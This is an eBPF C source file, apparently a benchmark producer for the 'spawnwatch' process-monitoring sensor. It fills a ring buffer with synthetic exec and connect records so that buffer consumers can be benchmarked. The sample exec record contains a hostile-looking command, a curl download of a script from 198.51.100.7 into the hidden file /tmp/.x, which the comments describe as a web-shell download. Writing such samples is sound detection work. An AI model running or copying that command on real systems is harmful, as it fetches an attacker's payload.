// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * Benchmark producer: fills a BPF ring buffer from the kernel with records of
 * the real contract layout (bpf/spawnwatch.h), so that the consumers in the
 * ring-drain benchmark read exactly what the sensor reads.
 *
 * Run it with BPF_PROG_TEST_RUN (raw_tp programs support it; they do not
 * support repeat, hence bpf_loop): ctx->args[0] is the number of records,
 * ctx->args[1] the record type (SW_RECORD_EXEC or SW_RECORD_CONNECT). The
 * return value is the number of reserves that failed (the ring was full).
 *
 * Only the fields a consumer reads are written; the rest of each record keeps
 * whatever the ring memory held (zeroes at first, then earlier records), as
 * the kernel would leave it in a real exec record's unused tail.
 */
#include <linux/types.h>
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include "spawnwatch.h"

char LICENSE[] SEC("license") = "Dual BSD/GPL";

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 64 * 1024 * 1024); /* the benchmark may resize */
} ring SEC(".maps");

struct fill_state {
	__u64 boot_ns;
	__u32 failed;
	__u32 _pad0;
};

/* A web-shell download, the kind of exec record the sensor exists for. */
#define EXE "/usr/bin/curl"
#define PARENT_EXE "/usr/bin/dash"
#define CWD "/var/www/html/uploads"
#define ARGS "curl\0-fsSL\0-o\0/tmp/.x\0http://198.51.100.7/p.sh" /* + final NUL */

static __always_inline void fill_process(struct sw_process *p, __u32 i, const char *comm)
{
	p->pid = 40000 + (i & 0x3fff);
	p->tid = p->pid;
	p->ppid = 39999;
	p->uid = 33;
	p->gid = 33;
	p->euid = 33;
	p->lineage_root = 1200;
	p->lineage_depth = 2;
	p->cgroup_id = 4242;
	p->start_boot_ns = 0;
	p->match = SW_MATCH_LINEAGE | SW_MATCH_WEB_USER;
	p->_pad0 = 0;
	__builtin_memcpy(p->comm, comm, SW_COMM_LEN);
	__builtin_memcpy(p->parent_comm, "sh\0\0\0\0\0\0\0\0\0\0\0\0\0", SW_COMM_LEN);
}

static long fill_exec(__u32 i, void *data)
{
	struct fill_state *s = data;
	struct sw_exec_record *e = bpf_ringbuf_reserve(&ring, sizeof(*e), 0);

	if (!e) {
		s->failed++;
		return 1; /* stop: the ring is full */
	}
	e->hdr.type = SW_RECORD_EXEC;
	e->hdr.version = SW_RECORD_VERSION;
	e->hdr.size = sizeof(*e);
	e->hdr.boot_ns = s->boot_ns + i;
	fill_process(&e->proc, i, "curl\0\0\0\0\0\0\0\0\0\0\0");
	e->argc = 5;
	e->exe_len = sizeof(EXE) - 1;
	e->parent_exe_len = sizeof(PARENT_EXE) - 1;
	e->cwd_len = sizeof(CWD) - 1;
	e->parent_cwd_len = sizeof(CWD) - 1;
	e->args_len = sizeof(ARGS);
	e->truncated = 0;
	__builtin_memcpy(e->exe, EXE, sizeof(EXE));
	__builtin_memcpy(e->parent_exe, PARENT_EXE, sizeof(PARENT_EXE));
	__builtin_memcpy(e->cwd, CWD, sizeof(CWD));
	__builtin_memcpy(e->parent_cwd, CWD, sizeof(CWD));
	__builtin_memcpy(e->args, ARGS, sizeof(ARGS));
	bpf_ringbuf_submit(e, 0);
	return 0;
}

static long fill_connect(__u32 i, void *data)
{
	struct fill_state *s = data;
	struct sw_connect_record *e = bpf_ringbuf_reserve(&ring, sizeof(*e), 0);

	if (!e) {
		s->failed++;
		return 1;
	}
	e->hdr.type = SW_RECORD_CONNECT;
	e->hdr.version = SW_RECORD_VERSION;
	e->hdr.size = sizeof(*e);
	e->hdr.boot_ns = s->boot_ns + i;
	fill_process(&e->proc, i, "curl\0\0\0\0\0\0\0\0\0\0\0");
	e->family = 2; /* AF_INET */
	e->protocol = 6; /* TCP */
	e->sport = 0;
	e->dport = 443;
	__builtin_memset(e->saddr, 0, sizeof(e->saddr));
	__builtin_memset(e->daddr, 0, sizeof(e->daddr));
	e->saddr[0] = 10;
	e->saddr[3] = 2;
	e->daddr[0] = 198;
	e->daddr[1] = 51;
	e->daddr[2] = 100;
	e->daddr[3] = 7;
	e->hook = SW_HOOK_TP_INET_SOCK_SET_STATE;
	e->_pad0 = 0;
	bpf_ringbuf_submit(e, 0);
	return 0;
}

SEC("raw_tp")
int fill_ring(struct bpf_raw_tracepoint_args *ctx)
{
	struct fill_state s = { .boot_ns = bpf_ktime_get_boot_ns() };
	__u32 n = ctx->args[0];

	if (ctx->args[1] == SW_RECORD_CONNECT)
		bpf_loop(n, fill_connect, &s, 0);
	else
		bpf_loop(n, fill_exec, &s, 0);
	return s.failed;
}
